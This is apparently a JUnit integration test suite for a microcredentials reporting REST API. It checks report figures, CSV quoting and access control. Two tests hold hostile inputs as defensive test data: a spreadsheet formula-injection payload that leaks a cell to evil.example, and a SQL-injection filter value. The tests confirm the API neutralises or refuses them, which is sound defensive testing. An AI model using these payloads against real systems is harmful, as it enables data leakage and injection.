package org.microcredentials.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.microcredentials.testing.RestCalls.OBJECT;

import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.engine.ProcessEngine;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.microcredentials.credential.CredentialRegister;
import org.microcredentials.credential.CredentialRevocations;
import org.microcredentials.framework.Engineer;
import org.microcredentials.framework.OrganisationAdministration;
import org.microcredentials.testing.ApplicationTest;
import org.microcredentials.testing.MutableClock;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Every report of CONTRACT.md against the figures of {@link ReportScenario}, counted by hand:
 * months and quarters of the organisation's time zone, a revoked credential, a resubmission that
 * passes in its second round, a withdrawn endorsement, work the SEM team took from a late assessor;
 * the filters (period, skill, team through two levels of line management); CSV with RFC 4180
 * quoting; who may read reports (401, 403).
 */
@ApplicationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ReportsRestIT {

  @Autowired TestRestTemplate rest;
  @Autowired ProcessEngine engine;
  @Autowired JdbcClient jdbc;
  @Autowired MutableClock clock;
  @Autowired CredentialRevocations revocations;
  @Autowired CredentialRegister credentials;
  @Autowired OrganisationAdministration administration;
  @Autowired Reports reports;

  private boolean played;

  /** Once for the class (within a test: the process test coverage records flows per test). */
  @BeforeEach
  void playTheScenario() {
    if (!played) {
      new ReportScenario(engine, jdbc, clock, revocations, credentials, administration).play();
      played = true;
    }
  }

  @AfterAll
  void resetTheEngineClock() {
    ReportScenario.resetEngineClock();
  }

  @Test
  void submissionsPerMonthOfTheOrganisationAndSource() {
    assertThat(rows("submissions", "")).containsExactly(
        Map.of("month", "2026-09", "source", "SELF_SUBMISSION", "started", 1, "passed", 1, "failed", 0, "open", 0),
        Map.of("month", "2026-10", "source", "ENDORSEMENT", "started", 3, "passed", 2, "failed", 1, "open", 0),
        Map.of("month", "2026-10", "source", "SELF_SUBMISSION", "started", 2, "passed", 1, "failed", 1, "open", 0),
        // P1 promoted, P2 open: each once, and none of the skills they had assessed as a self-submission.
        Map.of("month", "2026-11", "source", "PROMOTION", "started", 2, "passed", 1, "failed", 0, "open", 1),
        Map.of("month", "2026-11", "source", "SELF_SUBMISSION", "started", 1, "passed", 0, "failed", 0, "open", 1));
    assertThat(rows("submissions", "?skillCode=iMENT")).containsExactly(
        Map.of("month", "2026-11", "source", "PROMOTION", "started", 1, "passed", 1, "failed", 0, "open", 0));
  }

  @Test
  void thePeriodIsOneOfDaysInTheOrganisationsTimeZone() {
    // alice's iLAN application went in at 23:30 UTC on 30 September: 1 October in London.
    assertThat(rows("submissions", "?from=2026-10-01&to=2026-10-31")).extracting(row -> row.get("month"))
        .containsOnly("2026-10");
    assertThat(rows("submissions", "?from=2026-10-01&to=2026-10-31"))
        .filteredOn(row -> row.get("source").equals("SELF_SUBMISSION")).singleElement()
        .satisfies(row -> assertThat(row.get("started")).isEqualTo(2));
    assertThat(rows("submissions", "?to=2026-09-30")).containsExactly(
        Map.of("month", "2026-09", "source", "SELF_SUBMISSION", "started", 1, "passed", 1, "failed", 0, "open", 0));
  }

  @Test
  void passRatePerSkillAndLevelCountsAResubmittedApplicationOnceAndThePromotionsAssessedSkills() {
    assertThat(rows("pass-rate", "")).containsExactly(
        Map.of("skillCode", "iARCH", "skillName", skillName("iARCH"), "level", 4, "assessed", 1, "passed", 1, "passRate", 1.0),
        Map.of("skillCode", "iLAN", "skillName", "Language Knowledge", "level", 1, "assessed", 1, "passed", 0, "passRate", 0.0),
        Map.of("skillCode", "iLAN", "skillName", "Language Knowledge", "level", 3, "assessed", 1, "passed", 1, "passRate", 1.0),
        Map.of("skillCode", "iMENT", "skillName", skillName("iMENT"), "level", 4, "assessed", 1, "passed", 1, "passRate", 1.0),
        Map.of("skillCode", "iPERF", "skillName", skillName("iPERF"), "level", 3, "assessed", 1, "passed", 1, "passRate", 1.0));
    assertThat(rows("pass-rate", "?skillCode=iPERF")).extracting(row -> row.get("skillCode")).containsExactly("iPERF");
  }

  @Test
  void timeToOutcomeMedianAndP90InDaysPerMonthOfOutcome() {
    // October: alice 5 days, bob 29.5625 days (two rounds); November: henry 24 days (P1's skills are no self-submission).
    assertThat(rows("time-to-outcome", "")).containsExactly(
        Map.of("month", "2026-10", "decided", 2, "median", 17.3, "p90", 27.1),
        Map.of("month", "2026-11", "decided", 1, "median", 24.0, "p90", 24.0));
  }

  @Test
  void timeToEndorsementCountsApprovalsOnly() {
    // E1 4 days, E3 8 days; E2 was withdrawn.
    assertThat(rows("time-to-endorsement", "")).containsExactly(
        Map.of("month", "2026-10", "approved", 2, "median", 6.0, "p90", 7.6));
  }

  @Test
  void slaBreachesPerAssessorAndReviewer() {
    // P1's two review rounds: carol and dave one assessment each, frank and grace two reviews each, all in time.
    assertThat(rows("sla-breaches", "")).containsExactly(
        Map.of("person", "carol", "name", "Carol Example", "tasks", 5, "overdue", 1, "escalated", 1),
        Map.of("person", "dave", "name", "Dave Example", "tasks", 5, "overdue", 1, "escalated", 0),
        Map.of("person", "erin", "name", "Erin Example", "tasks", 2, "overdue", 0, "escalated", 0),
        Map.of("person", "frank", "name", "Frank Example", "tasks", 4, "overdue", 0, "escalated", 0),
        Map.of("person", "grace", "name", "Grace Hopper", "tasks", 2, "overdue", 0, "escalated", 0));
    assertThat(rows("sla-breaches", "?skillCode=iLAN")).containsExactly(
        Map.of("person", "carol", "name", "Carol Example", "tasks", 2, "overdue", 1, "escalated", 1),
        Map.of("person", "dave", "name", "Dave Example", "tasks", 2, "overdue", 0, "escalated", 0),
        Map.of("person", "erin", "name", "Erin Example", "tasks", 1, "overdue", 0, "escalated", 0),
        Map.of("person", "frank", "name", "Frank Example", "tasks", 1, "overdue", 0, "escalated", 0));
    // A promotion's rounds share its business key: each task counts for the skill its round assessed.
    assertThat(rows("sla-breaches", "?skillCode=iARCH")).containsExactly(
        Map.of("person", "carol", "name", "Carol Example", "tasks", 1, "overdue", 0, "escalated", 0),
        Map.of("person", "frank", "name", "Frank Example", "tasks", 1, "overdue", 0, "escalated", 0),
        Map.of("person", "grace", "name", "Grace Hopper", "tasks", 1, "overdue", 0, "escalated", 0));
    assertThat(rows("sla-breaches", "?skillCode=iMENT&from=2026-11-01"))
        .extracting(row -> row.get("person")).containsExactly("dave", "frank", "grace");
  }

  @Test
  void credentialsIssuedAndRevokedPerQuarterOfTheOrganisation() {
    // bob's iPERF:3 was issued at 23:30 UTC on 30 September: the fourth quarter in London.
    // With P1's: four held at level 4 and two from its review rounds.
    assertThat(rows("credentials-by-skill-level", "")).containsExactly(
        Map.of("quarter", "2026-Q4", "skillCode", "iARCH", "skillName", skillName("iARCH"), "level", 4, "issued", 1, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iCOMM", "skillName", skillName("iCOMM"), "level", 4, "issued", 1, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iLAN", "skillName", "Language Knowledge", "level", 3, "issued", 1, "revoked", 1),
        Map.of("quarter", "2026-Q4", "skillCode", "iMENT", "skillName", skillName("iMENT"), "level", 4, "issued", 1, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iOWN", "skillName", skillName("iOWN"), "level", 4, "issued", 1, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iPERF", "skillName", skillName("iPERF"), "level", 2, "issued", 1, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iPERF", "skillName", skillName("iPERF"), "level", 3, "issued", 2, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iPERF", "skillName", skillName("iPERF"), "level", 4, "issued", 1, "revoked", 0),
        Map.of("quarter", "2026-Q4", "skillCode", "iSEC", "skillName", skillName("iSEC"), "level", 4, "issued", 1, "revoked", 0));
    assertThat(rows("credentials-by-skill-level", "?to=2026-09-30")).isEmpty();
  }

  @Test
  void endorsementsPerEndorser() {
    assertThat(rows("endorsements-by-endorser", "")).containsExactly(
        Map.of("endorser", "carol", "name", "Carol Example", "started", 2, "approved", 2, "withdrawn", 0, "distinctCandidates", 2),
        Map.of("endorser", "dave", "name", "Dave Example", "started", 1, "approved", 0, "withdrawn", 1, "distinctCandidates", 1));
  }

  @Test
  void aTeamIsEveryoneBelowTheLineManagerAtAnyDepth() {
    // carol manages alice and bob; erin manages carol and dave, who manages henry.
    assertThat(rows("submissions", "?team=carol")).containsExactly(
        Map.of("month", "2026-09", "source", "SELF_SUBMISSION", "started", 1, "passed", 1, "failed", 0, "open", 0),
        Map.of("month", "2026-10", "source", "ENDORSEMENT", "started", 1, "passed", 1, "failed", 0, "open", 0),
        Map.of("month", "2026-10", "source", "SELF_SUBMISSION", "started", 1, "passed", 1, "failed", 0, "open", 0),
        Map.of("month", "2026-11", "source", "PROMOTION", "started", 2, "passed", 1, "failed", 0, "open", 1),
        Map.of("month", "2026-11", "source", "SELF_SUBMISSION", "started", 1, "passed", 0, "failed", 0, "open", 1));
    assertThat(rows("pass-rate", "?team=erin")).hasSize(5);
    assertThat(rows("pass-rate", "?team=dave")).extracting(row -> row.get("level")).containsExactly(1);
    assertThat(rows("endorsements-by-endorser", "?team=erin")).extracting(row -> row.get("endorser"))
        .containsExactly("carol", "dave");
    assertThat(rows("endorsements-by-endorser", "?team=carol")).isEmpty();
    assertThat(rows("sla-breaches", "?team=grace")).extracting(row -> row.get("person"))
        .containsExactly("carol", "dave", "erin", "frank");
  }

  @Test
  void csvHasAHeaderLineAndQuotesAsRfc4180() {
    int version = jdbc.sql("select framework_version from application where skill_code = 'iLAN' and skill_level = 3"
        + " and source = 'SELF_SUBMISSION'")
        .query(Integer.class).single();
    String name = skillName("iLAN");
    jdbc.sql("update skill set name = ? where framework_version = ? and code = 'iLAN'")
        .params("Language, \"Knowledge\"", version).update();
    try {
      ResponseEntity<String> csv = get("erin", "/api/reports/pass-rate", "text/csv", String.class);
      assertThat(csv.getHeaders().getContentType().toString()).startsWith("text/csv");
      assertThat(csv.getBody()).isEqualTo("skillCode,skillName,level,assessed,passed,passRate\r\n"
          + "iARCH," + skillName("iARCH") + ",4,1,1,1.0\r\n"
          + "iLAN,\"Language, \"\"Knowledge\"\"\",1,1,0,0.0\r\n"
          + "iLAN,\"Language, \"\"Knowledge\"\"\",3,1,1,1.0\r\n"
          + "iMENT," + skillName("iMENT") + ",4,1,1,1.0\r\n"
          + "iPERF," + skillName("iPERF") + ",3,1,1,1.0\r\n");
      ResponseEntity<String> download = get("erin", "/reports/data/submissions?format=csv", "*/*", String.class);
      assertThat(download.getHeaders().getContentDisposition().getFilename()).isEqualTo("submissions.csv");
      assertThat(download.getBody()).startsWith("month,source,started,passed,failed,open\r\n2026-09,SELF_SUBMISSION,1,1,0,0\r\n");
    } finally {
      jdbc.sql("update skill set name = ? where framework_version = ? and code = 'iLAN'").params(name, version).update();
    }
  }

  @Test
  void onlyTheSemTeamAndAdministratorsReadReports() throws InterruptedException {
    assertThat(get("erin", "/api/reports/submissions", "application/json", String.class).getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(get("demo", "/api/reports/submissions", "application/json", String.class).getStatusCode()).isEqualTo(HttpStatus.OK);
    ResponseEntity<Map<String, Object>> refused = rest.withBasicAuth("carol", "carol")
        .exchange("/api/reports/submissions", HttpMethod.GET, null, OBJECT);
    assertThat(refused.getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);
    assertThat(refused.getHeaders().getContentType().toString()).isEqualTo("application/problem+json");
    assertThat(refused.getBody()).containsEntry("rule", "report-readers");
    assertThat(rest.getForEntity("/api/reports/submissions", String.class).getStatusCode()).isEqualTo(HttpStatus.UNAUTHORIZED);
    assertThat(rest.getForEntity("/reports/data/submissions", String.class).getStatusCode()).isEqualTo(HttpStatus.UNAUTHORIZED);
    assertThat(get("alice", "/reports/data/submissions", "application/json", String.class).getStatusCode())
        .isEqualTo(HttpStatus.FORBIDDEN);
    assertThat(get("alice", "/reports", "text/html", String.class).getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);
    // ivan (SEM team) with a wrong password; not erin: Camunda delays her next login after a failed one, and the
    // browser test logs her in to Tasklist with the same database.
    assertThat(rest.withBasicAuth("ivan", "wrong").getForEntity("/reports", String.class).getStatusCode())
        .isEqualTo(HttpStatus.UNAUTHORIZED);
    // The application is shared with the classes after this one: once this address's wait for ivan is over
    // (3 s), his right password clears the failure, so that no later test meets the wait (429).
    long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
    int status;
    do {
      Thread.sleep(500);
      status = rest.withBasicAuth("ivan", "ivan").getForEntity("/reports", String.class).getStatusCode().value();
    } while (status == 429 && System.nanoTime() < deadline);
    assertThat(status).as("ivan signs in again").isNotIn(401, 429);
  }

  @Test
  void credentialsAndPromotionsPerTargetLevelWithTheCredentialsHeldWhenApplying() {
    // P2: alice held iPERF:3 only (her iLAN:3 revoked on 11-02); P1: bob held five.
    assertThat(rows("credentials-and-promotions", "")).containsExactly(
        Map.of("targetLevel", 3, "applications", 1, "promoted", 0, "notPromoted", 0, "open", 1, "medianCredentialsHeld", 1.0),
        Map.of("targetLevel", 4, "applications", 1, "promoted", 1, "notPromoted", 0, "open", 0, "medianCredentialsHeld", 5.0));
    assertThat(rows("credentials-and-promotions", "?from=2026-11-06")).extracting(row -> row.get("targetLevel")).containsExactly(3);
    assertThat(rows("credentials-and-promotions", "?skillCode=iARCH")).extracting(row -> row.get("targetLevel")).containsExactly(4);
    assertThat(rows("credentials-and-promotions", "?team=dave")).isEmpty();
    assertThat(get("erin", "/api/reports/credentials-and-promotions", "text/csv", String.class).getBody())
        .isEqualTo("targetLevel,applications,promoted,notPromoted,open,medianCredentialsHeld\r\n3,1,0,0,1,1.0\r\n4,1,1,0,0,5.0\r\n");
  }

  /**
   * Each report from its tallies gives the rows of its query over every row, for the whole period, a
   * skill, periods cutting months and quarters, and teams (sla-breaches keeps its members' tallies), read at moments that split the facts differently
   * between the tallies and what is read after their horizon: 3 November (C failed that day, P1 later);
   * 31 October before and after the SEM team hands C's overdue assessment from carol to dave at noon, and
   * 6 November before and after P1's assessments and peer reviews end that morning (the SLA tally, which
   * settles to a few minutes ago, and the open tasks' links brought forward over them); the scenario's day.
   */
  @Test
  void theTalliesGiveTheRowsOfTheQueriesOverEveryRow() {
    List<ReportFilter> filters = List.of(ReportFilter.none(), new ReportFilter(null, null, "iPERF", null),
        new ReportFilter(LocalDate.parse("2026-10-01"), LocalDate.parse("2026-10-31"), null, null),
        new ReportFilter(LocalDate.parse("2026-10-03"), LocalDate.parse("2026-11-04"), "iLAN", null),
        new ReportFilter(null, null, null, "grace"), new ReportFilter(null, null, "iPERF", "erin"),
        new ReportFilter(null, null, null, "carol"));
    try {
      for (Instant readAt : List.of(Instant.parse("2026-11-03T12:00:00Z"), Instant.parse("2026-10-31T08:00:00Z"),
          Instant.parse("2026-10-31T15:00:00Z"), Instant.parse("2026-11-06T08:00:00Z"),
          Instant.parse("2026-11-06T15:00:00Z"), ReportScenario.READ_AT)) {
        clock.set(readAt);
        for (ReportName name : ReportName.values()) {
          for (ReportFilter filter : filters) {
            assertThat(reports.report(name, filter).rows()).as(name + " " + filter + " at " + readAt)
                .isEqualTo(reports.queried(name, filter).rows());
          }
        }
      }
      assertThat(reports.report(ReportName.TIME_TO_OUTCOME, ReportFilter.none()).rows()).isNotEmpty();
    } finally {
      clock.set(ReportScenario.READ_AT);
    }
  }

  /**
   * A team's report over the whole period comes from the team's own tally, made for its members of that moment: when
   * bob (carol's) moves to dave's team, dave's report counts bob's decisions at once, as the query does, and stops
   * counting them when he moves back.
   */
  @Test
  void aTeamsReportFollowsAChangeOfLineManager() {
    ReportFilter daves = new ReportFilter(null, null, null, "dave");
    List<Map<String, Object>> before = reports.report(ReportName.PASS_RATE, daves).rows();
    assertThat(before).extracting(row -> row.get("level")).containsExactly(1);
    Engineer bob = engineer("bob");
    try {
      administration.save("bob", new OrganisationAdministration.EngineerUpdate(bob.displayName(), bob.email(),
          bob.seniorityLevel(), bob.roleTitle(), "dave"));
      for (ReportName name : ReportName.values()) {
        assertThat(reports.report(name, daves).rows()).as(name.slug())
            .isEqualTo(reports.queried(name, daves).rows());
      }
      assertThat(reports.report(ReportName.PASS_RATE, daves).rows()).extracting(row -> row.get("level")).contains(1, 3);
    } finally {
      administration.save("bob", update(bob, bob.displayName()));
    }
    assertThat(reports.report(ReportName.PASS_RATE, daves).rows()).isEqualTo(before);
  }

  @Test
  void anUnknownReportOrABadPeriodIsRefused() {
    ResponseEntity<Map<String, Object>> unknown = rest.withBasicAuth("erin", "erin")
        .exchange("/api/reports/everything", HttpMethod.GET, null, OBJECT);
    assertThat(unknown.getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
    ResponseEntity<Map<String, Object>> badDate = rest.withBasicAuth("erin", "erin")
        .exchange("/api/reports/submissions?from=October", HttpMethod.GET, null, OBJECT);
    assertThat(badDate.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(badDate.getBody()).containsEntry("rule", "report-period");
  }

  /**
   * A display name an administrator typed (or pasted from HR) that a spreadsheet would run: carol's name
   * becomes a HYPERLINK formula. The CSV gives it as text (a single quote first); the JSON keeps it as it is;
   * the figures stay numbers.
   */
  @Test
  void aNameThatIsAFormulaReachesTheCsvAsText() {
    String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
    Engineer carol = engineer("carol");
    try {
      ResponseEntity<String> renamed = rest.withBasicAuth("demo", "demo").exchange("/api/engineers/carol", HttpMethod.PUT,
          new HttpEntity<>(update(carol, formula)), String.class);
      assertThat(renamed.getStatusCode()).isEqualTo(HttpStatus.OK);

      for (String path : List.of("/api/reports/endorsements-by-endorser?format=csv", "/api/reports/sla-breaches?format=csv")) {
        String csv = get("erin", path, "*/*", String.class).getBody();
        assertThat(csv).as(path).contains("carol,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",");
        assertThat(csv.split("\r\n")).as(path).noneMatch(line -> line.startsWith("=") || line.contains(",=")
            || line.contains(",\"="));
      }
      assertThat(get("erin", "/api/reports/endorsements-by-endorser", "text/csv", String.class).getBody())
          .contains("carol,\"'=HYPERLINK(").contains("\",2,2,0,2\r\n");
      assertThat(rows("endorsements-by-endorser", "")).first().satisfies(row -> assertThat(row.get("name")).isEqualTo(formula));
    } finally {
      administration.save("carol", update(carol, carol.displayName()));
    }
  }

  /**
   * Dates Java parses but no database holds ({@code +999999999-12-31}, {@code -999999999-01-01}) and other
   * pathological filters: refused with 400 naming the rule, never a 500; no answer shows SQL, a class name or
   * a stack trace.
   */
  @Test
  void pathologicalFiltersAreRefusedNamingTheRuleWithoutInternals() {
    Map<String, String> refusals = new java.util.LinkedHashMap<>();
    refusals.put("?from=%2B999999999-12-31", "report-period");
    refusals.put("?to=%2B999999999-12-31", "report-period");
    refusals.put("?from=-999999999-01-01", "report-period");
    refusals.put("?from=0000-01-01&to=2026-01-01", "report-period");
    refusals.put("?from=1899-12-31", "report-period");
    refusals.put("?to=10000-01-01", "report-period");
    refusals.put("?from=%2B999999999", "report-period");
    refusals.put("?from=2026-02-30", "report-period");
    refusals.put("?from=2026-12-01&to=2026-11-01", "report-period");
    refusals.put("?skillCode=iLAN'%20or%201=1--", "report-skill");
    refusals.put("?team=" + "x".repeat(65), "report-team");
    for (String report : List.of("submissions", "sla-breaches", "credentials-by-skill-level")) {
      for (Map.Entry<String, String> refusal : refusals.entrySet()) {
        for (String accept : List.of("application/json", "text/csv")) {
          // Sent as encoded as it is written here (%2B is the attacker's '+'): not encoded again by a URI template.
          ResponseEntity<String> answer = get("erin", java.net.URI.create(rest.getRootUri() + "/api/reports/" + report
              + refusal.getKey()), accept);
          assertThat(answer.getStatusCode()).as(report + refusal.getKey() + " " + accept + ": " + answer.getBody())
              .isEqualTo(HttpStatus.BAD_REQUEST);
          assertThat(answer.getBody()).contains("\"rule\":\"" + refusal.getValue() + "\"");
          assertNoInternals(answer.getBody());
        }
      }
    }
    assertThat(rows("submissions", "?from=1900-01-01&to=9999-12-31")).isEqualTo(rows("submissions", ""));
    // Spring Boot's own error page, e.g. a media type no report is given in: no exception named either.
    ResponseEntity<String> notAcceptable = get("erin", "/api/reports/submissions", "application/xml", String.class);
    assertThat(notAcceptable.getStatusCode().is4xxClientError()).isTrue();
    assertNoInternals(notAcceptable.getBody());
  }

  static void assertNoInternals(String body) {
    assertThat(body == null ? "" : body).doesNotContainIgnoringCase("select ").doesNotContainIgnoringCase("insert into")
        .doesNotContain("Exception").doesNotContain("org.").doesNotContain("java.").doesNotContain("\tat ")
        .doesNotContain("\"trace\"").doesNotContain("\"exception\"");
  }

  private Engineer engineer(String userId) {
    return rest.withBasicAuth("demo", "demo").exchange("/api/engineers", HttpMethod.GET, null,
            new org.springframework.core.ParameterizedTypeReference<List<Engineer>>() { }).getBody().stream()
        .filter(engineer -> engineer.userId().equals(userId)).findFirst().orElseThrow();
  }

  private static OrganisationAdministration.EngineerUpdate update(Engineer engineer, String displayName) {
    return new OrganisationAdministration.EngineerUpdate(displayName, engineer.email(), engineer.seniorityLevel(),
        engineer.roleTitle(), engineer.lineManagerId());
  }

  @SuppressWarnings("unchecked")
  private List<Map<String, Object>> rows(String report, String query) {
    ResponseEntity<Map<String, Object>> answer = rest.withBasicAuth("erin", "erin")
        .exchange("/api/reports/" + report + query, HttpMethod.GET, null, OBJECT);
    assertThat(answer.getStatusCode()).as(report + query + ": " + answer.getBody()).isEqualTo(HttpStatus.OK);
    return (List<Map<String, Object>>) answer.getBody().get("rows");
  }

  private String skillName(String code) {
    return jdbc.sql("select name from skill where code = ? and framework_version = (select max(version) from skill_framework)")
        .param(code).query(String.class).single();
  }

  private ResponseEntity<String> get(String user, java.net.URI uri, String accept) {
    HttpHeaders headers = new HttpHeaders();
    headers.set(HttpHeaders.ACCEPT, accept);
    return rest.withBasicAuth(user, user).exchange(uri, HttpMethod.GET, new HttpEntity<>(headers), String.class);
  }

  private <T> ResponseEntity<T> get(String user, String path, String accept, Class<T> type) {
    HttpHeaders headers = new HttpHeaders();
    headers.set(HttpHeaders.ACCEPT, accept);
    return rest.withBasicAuth(user, user).exchange(path, HttpMethod.GET, new HttpEntity<>(headers), type);
  }
}
